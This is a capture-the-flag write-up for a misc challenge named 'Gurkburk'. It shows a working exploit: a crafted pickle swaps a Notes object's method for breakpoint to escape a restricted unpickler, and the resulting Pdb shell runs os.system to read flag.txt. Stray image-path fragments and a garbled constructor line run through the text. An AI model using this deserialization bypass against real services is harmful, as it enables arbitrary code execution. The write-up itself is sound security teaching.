Gurkburk [Misc]


The flag is located in ./flag.txt.

  • Service: nc 37541


We can netcat to a service and it will give a menu. We can:

  • Create "Notes"
  • Save "Notes"
  • Load "Notes"

The saving/loading of notes is done via pickled Python objects. This most certainly makes it vulnerable to deserialization exploits, however, the challengeauthor has subclassed the unpickle class which checks if you're not doing nasty things like importing arbitrary modules.

As Python is a dynamic language we can still find our ways around this.For example, we know that the Notes object is in scope (from observing the the pickled data) and we can call setattr on this Notes object and, forexample, overwrite it's member function list_notes to something else, let's say breakpoint.

breakpoint inPython 3 is interesting because it stops thecurrent execution and drops you into a Pdb shell.


#!/usr/bin/env python
import pickle
import copy_reg
import base64

class Notes(object):
    def __init__(self, name, notes): = name
        self.notes = notes

    def __setstate__(self, state):
        self.__dict__ = state

x = Notes('blah', ['test'])
x.list_notes = __builtins__.input
xz = pickle.dumps(x)
xz = xz.replace('input', 'breakpoint')

We submit our string to the loading mechanism of the notes, and when we try to display the notes (internally it will call list_notes(), whichwe monkey patched), we'll get dropped into a Pdb shell, from which we can execute arbitrary Python code without restrictions.

==> d
> /home/ctf/
-> continue
(Pdb) import os
(Pdb) !print(os.system('ls'))
(Pdb)!print(os.system('cat flag.txt'))